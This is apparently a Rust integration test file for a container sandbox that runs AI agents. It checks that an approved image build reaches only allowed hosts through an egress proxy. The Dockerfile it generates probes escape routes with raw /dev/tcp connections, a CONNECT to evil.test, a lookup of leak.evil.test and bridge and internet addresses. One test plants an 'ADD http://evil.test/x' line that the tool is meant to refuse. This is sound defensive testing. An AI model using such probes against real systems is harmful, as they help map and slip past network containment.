//! An image that an agent proposed and a person approved, on the real engine: where it is built, what
//! its build reaches, and what stays of the session.
//!
//! An engine is expected to answer (`scripts/host-setup` starts one), and `cargo build -p bottle`
//! to have been run.

use std::net::{Ipv4Addr, TcpListener};

use bottle_outside::Origin;
use bottle_planner::plan::Plan;
use bottle_planner::words::Digest;
use bottle_tests::host::{Host, docker, unique};
use bottle_tests::outside::Network;

const BASE: &str = "debian:bookworm-slim";
/// Hosts that were approved with the image. The second has no pin, and resolves to nothing.
const HOSTS: &str = r#"["plain.test:80", "tls.test:443"]"#;

struct Bench {
    host: Host,
    session: String,
    plan: Plan,
    origin: Origin,
    outside: Ipv4Addr,
    _network: Network,
}

impl Bench {
    /// A session with a workspace of its own, in which its agent has done some work.
    fn new() -> Self {
        let (network, outside) = Network::new();
        let origin = Origin::plain((outside, 80));
        let manifest = format!(
            "bottles:
  box:
    egress:
      routes:
        - {{host: plain.test, port: 80, address: {outside}, allow: [{{access: read}}]}}
        - {{host: agents.test, port: 80, address: {outside}, allow: [{{access: read}}]}}
        - {{host: auth.test, address: {outside}, auth: {{scheme: Bearer, secret: TOKEN}}}}
    provider: {{command: [sleep, '86400']}}
    image: {{reference: '{BASE}'}}
    limits: {{memory: 512MiB, cpus: 1.5}}
    isolation: container
    supervise: true
    workspace: {{modes: [copy]}}
agents:
  dev: {{bottle: box, prompt: Be brief.}}
"
        );
        let host = Host::with_manifest(&manifest).set("TOKEN", "tok-9Kd2xQ7mWz4LpR8v");
        host.write("work/code/a.txt", "as it came\n").write("work/code/b.txt", "as it came\n");
        let session = unique("change");
        // Of no other test's content: what goes with another's state root is not there for this one.
        host.write("work/code/mine.txt", &session);
        let folder = host.at("work/code").display().to_string();
        let asked = ["--workspace", "copy", "--cwd", folder.as_str()];
        let plan = host.plans(&session, "plan.json", &asked);
        host.run(&["apply", "plan.json", "--yes"]).code(0);
        let bench = Self { host, session, plan, origin, outside, _network: network };
        bench.inside("echo 'the agent was here' > /workspace/a.txt; rm /workspace/b.txt");
        bench.inside("echo said > /home/agent/transcript");
        bench
    }

    fn inside(&self, command: &str) -> String {
        let agent = format!("bottle-{}", self.session);
        docker(&["exec", "-u", "1000:1000", &agent, "sh", "-c", command]).code(0).out
    }

    /// The base's name as it is in force: pinned, where its registry's digest is known.
    fn base(&self) -> String {
        let text = self.plan.grants.image.in_force();
        text.trim_start_matches("FROM ").trim().to_owned()
    }

    /// What an approval leaves in the state folder.
    fn approve(&self, dockerfile: &str) {
        let at = |name| format!("root/state/{}/{name}", self.session);
        let hosts = format!("{{\"{}\": {HOSTS}}}", Digest::of(dockerfile.as_bytes()));
        self.host.write(&at("Dockerfile"), dockerfile).write(&at("build-hosts.json"), &hosts);
    }

    fn stop(&self) {
        self.host.run(&["stop", &self.session]).code(0);
    }

    fn resume(&self) -> bottle_tests::host::Ran {
        let words = ["resume", &self.session, "--manifest", "bottle.yaml", "--yes", "--detach"];
        self.host.run(&words)
    }

    fn image(&self) -> String {
        let agent = format!("bottle-{}", self.session);
        docker(&["inspect", &agent, "--format", "{{.Image}}"]).code(0).out
    }

    fn work_is_kept(&self) {
        assert_eq!(self.inside("cat /workspace/a.txt"), "the agent was here\n");
        assert_eq!(self.inside("ls /workspace"), "a.txt\nmine.txt\n", "what went stays gone");
        assert_eq!(self.inside("cat /home/agent/transcript"), "said\n");
    }

    /// A Dockerfile whose steps write down what they reach, in `/proof`.
    fn dockerfile(&self, host_port: u16) -> String {
        let gateway = self.plan.session.net.subnet.nth(1).expect("an address");
        let [net, outside] = [gateway, self.outside];
        format!(
            r#"FROM {base}
SHELL ["/bin/bash", "-c"]
RUN echo '#!/bin/bash' > /ask && \
# through egress, as any program that knows of a proxy
  echo 'at=${{http_proxy#http://}}; exec 3<>/dev/tcp/${{at%:*}}/${{at#*:}} || exit 1' >> /ask && \
  echo 'printf "$1 HTTP/1.1\r\nHost: $2\r\nConnection: close\r\n\r\n" >&3' >> /ask && \
  echo 'read -r -t 20 _ code _ <&3; echo "$3 $code" >> /proof' >> /ask && \
  echo '#!/bin/bash' > /try && \
  echo 'timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2" 2> /dev/null && echo "$3 reached" >> /proof || echo "$3 closed" >> /proof' >> /try
RUN bash /ask 'GET http://plain.test/open/tool' plain.test approved
RUN bash /ask 'CONNECT tls.test:443' tls.test:443 tunnel
RUN bash /ask 'GET http://agents.test/open/x' agents.test agents
RUN bash /ask 'CONNECT auth.test:443' auth.test:443 credential
RUN bash /ask 'CONNECT evil.test:443' evil.test:443 evil
RUN bash /ask 'POST http://plain.test/open/x' plain.test post
RUN bash /try {outside} 80 outside
RUN bash /try {net} {host_port} gateway
RUN bash /try 172.17.0.1 {host_port} bridge
RUN bash /try 1.1.1.1 443 internet
RUN (getent hosts plain.test > /dev/null && echo "name known" || echo "name unknown") >> /proof
RUN (timeout 10 getent hosts leak.evil.test > /dev/null && echo "other known" || echo "other unknown") >> /proof
RUN (cat /sys/fs/cgroup/memory.max 2> /dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes) >> /proof
RUN (cat /sys/fs/cgroup/cpu.max 2> /dev/null || cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us) >> /proof
RUN echo "proxy $HTTP_PROXY" >> /proof; (ls -A /.bottle* 2> /dev/null | grep -v upstream-ca || true) >> /proof
"#,
            base = self.base(),
        )
    }
}

impl Drop for Bench {
    fn drop(&mut self) {
        self.host.run(&["destroy", &self.session, "--yes"]);
        let tags = docker(&["images", "--format", "{{.Repository}}:{{.Tag}}"]).out;
        let own =
            |tag: &&str| tag.contains(&self.session) || **tag == self.plan.session.agent_image;
        for tag in tags.lines().filter(own) {
            docker(&["rmi", "-f", tag]);
        }
    }
}

#[test]
fn an_approved_image_is_built_through_egress_and_work_is_kept() {
    let bench = Bench::new();
    // A service of the host's, on every address it has.
    let service = TcpListener::bind("0.0.0.0:0").expect("a port");
    let port = service.local_addr().expect("an address").port();
    let before = bench.image();
    bench.stop();
    bench.approve(&bench.dockerfile(port));
    bench.resume().code(0);

    let mut proof = bench.inside("cat /proof");
    let at = proof.find("proxy ").expect("the last line");
    let egress = bench.plan.session.places[&bottle_planner::words::Role::Egress].net;
    assert_eq!(proof.split_off(at), format!("proxy http://{egress}:9099\n"));
    let expected = "approved 200\ntunnel 200\nagents 403\ncredential 403\nevil 403\npost 403\n\
                    outside closed\ngateway closed\nbridge closed\ninternet closed\n\
                    name known\nother unknown\n536870912\n150000";
    assert!(proof.starts_with(expected), "{proof}");
    let asked: Vec<String> = bench.origin.requests().iter().map(|r| r.path.clone()).collect();
    assert_eq!(asked, ["/open/tool"], "nothing else of the build's arrived");
    let log = bench.host.read(&format!("root/state/{}/egress/out/decisions.jsonl", bench.session));
    let builds: Vec<&str> = log.lines().filter(|l| l.contains(r#""client":"build""#)).collect();
    assert!(builds.iter().any(|l| l.contains("build plain.test:80")), "{builds:#?}");
    assert!(builds.iter().any(|l| l.contains("evil.test") && l.contains("refuse")), "{builds:#?}");

    assert_ne!(bench.image(), before, "it runs in the new image");
    bench.work_is_kept();
    let holder = format!("name=bottle-build-{}", bench.session);
    assert_eq!(docker(&["ps", "-aq", "--filter", &holder]).out, "", "what held the place is gone");
    // What the build set for its steps is in no image.
    let history = docker(&["history", "--no-trunc", bench.image().trim()]).out;
    assert!(!history.contains("9099"), "{history}");
}

#[test]
fn a_refused_dockerfile_leaves_the_session_as_it_was() {
    let bench = Bench::new();
    let before = bench.image();
    bench.stop();
    let state = format!("root/state/{}", bench.session);
    let plan = bench.host.read(&format!("{state}/plan.json"));
    bench.approve("FROM evil:latest\nADD http://evil.test/x /x\n");
    bench.resume().code(1).says("line 1: `evil:latest` is not a base").says("line 2: ADD");
    assert_eq!(bench.host.read(&format!("{state}/plan.json")), plan, "nothing was begun");
    assert_eq!(bench.image(), before, "its container is there");
    for file in ["Dockerfile", "build-hosts.json"] {
        std::fs::remove_file(bench.host.at(&format!("{state}/{file}"))).expect("there");
    }
    bench.resume().code(0);
    assert_eq!(bench.image(), before, "it goes on as it was");
    bench.work_is_kept();
}

#[test]
fn a_build_that_fails_loses_no_work_and_leaves_nothing() {
    let bench = Bench::new();
    bench.stop();
    bench.approve(&format!("FROM {}\nRUN echo so far; exit 7\n", bench.base()));
    let ran = bench.resume();
    assert!(!ran.ok(), "{}", ran.out);
    ran.says("returned a non-zero code: 7");
    let holder = format!("name=bottle-build-{}", bench.session);
    assert_eq!(docker(&["ps", "-aq", "--filter", &holder]).out, "");
    let state = format!("root/state/{}", bench.session);
    for file in ["Dockerfile", "build-hosts.json"] {
        std::fs::remove_file(bench.host.at(&format!("{state}/{file}"))).expect("there");
    }
    bench.resume().code(0);
    bench.work_is_kept();
}
